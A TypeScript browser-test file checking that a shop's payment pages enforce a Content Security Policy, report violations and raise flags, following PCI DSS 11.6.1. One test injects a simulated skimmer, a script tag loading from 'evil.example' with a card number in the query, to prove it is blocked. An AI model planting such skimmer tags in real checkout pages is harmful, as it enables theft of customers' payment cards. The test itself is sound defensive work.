/**
 * A script that someone adds to the payment page on its way (PCI DSS 11.6.1) does not run, and the shop is notified.
 * The page has its policy as a meta tag, and again as a header that also names the address for reports.
 */
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { flags, policyReports } from '#db/schema/index.ts';
import { reportedPages } from '#tools/astro/page-csp.ts';
import { fileOf, htmlOf } from '../built/pages.ts';
import { browserTest } from './browser-test.ts';
import { atCheckout, startPaying, widget } from './payment-steps.ts';
import { becomes, see } from './visitor.ts';

const { shop, visit, test } = browserTest({ simulators: true, empties: [policyReports, flags] });

const policyOf = (html: string) =>
  /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
const counted = async () =>
  (await shop.db.read.select().from(policyReports))
    .map(({ page, directive, blocked, count }) => `${page} ${directive} ${blocked} ${count}`)
    .sort();

test('only the payment pages have their policy as a header too, with an address for reports', async () => {
  for (const path of reportedPages) {
    const { headers } = await fetch(shop.stack.url + path);
    const meta = policyOf(htmlOf(fileOf(path))).trim();
    expect(headers.get('content-security-policy')).toBe(
      `${meta.replace(/;$/, '')}; frame-ancestors 'none'; report-uri /api/policy-report; report-to csp`,
    );
    expect(headers.get('reporting-endpoints')).toBe('csp="/api/policy-report"');
  }
  for (const path of ['/', '/cart', '/orders']) {
    const { headers } = await fetch(shop.stack.url + path);
    expect([path, headers.get('content-security-policy')]).toEqual([path, "frame-ancestors 'none'"]);
    expect([path, headers.get('reporting-endpoints')]).toEqual([path, null]);
  }
});

/** Changes the response. The tests' browser is built without the Reporting API, so only `report-uri` is left. */
const changeResponse = (page: Page, injected: string) =>
  page.route(/\/(checkout|place-order)$/, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? '';
    const body = (await response.text()).replace('</head>', `${injected}</head>`);
    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy }, body });
  });

test('an injected script does not run, is counted, and raises a flag', async () => {
  const visitor = await visit(1280);
  visitor.expectConsole('Content Security Policy');
  visitor.expectFailure('/skimmer.js', 0);
  const { page } = visitor;
  await changeResponse(
    page,
    '<script src="https://evil.example/skimmer.js?card=4111"></script><script>window.skimmed = true</script>',
  );
  await page.goto('/checkout');
  await becomes(counted, ['/checkout script-src-elem evil.example 1', '/checkout script-src-elem inline 1']);
  expect(await page.evaluate(() => 'skimmed' in window)).toBe(false);
  const raised = await shop.db.read.select().from(flags);
  expect(raised.map(({ kind, about }) => `${kind} ${about.split(' ')[0]}`).sort()).toEqual([
    'page_script_blocked evil.example',
    'page_script_blocked inline',
  ]);
  expect(JSON.stringify(raised)).not.toMatch(/card=|\b4111\b/);
});

test('with the policy as a header, Razorpay’s window opens, and nothing is reported', async () => {
  const reports: string[] = [];
  const visitWithHeader: typeof visit = async (...given) => {
    const visitor = await visit(...given);
    await changeResponse(visitor.page, '');
    visitor.page.on(
      'request',
      (request) => request.url().includes('policy-report') && reports.push(request.url()),
    );
    return visitor;
  };
  const { page } = await atCheckout(shop, visitWithHeader, 390, 'razorpay');
  await startPaying(page, 'razorpay');
  await see(widget(page).getByText('₹698.00'));
  expect([reports, await counted()]).toEqual([[], []]);
});
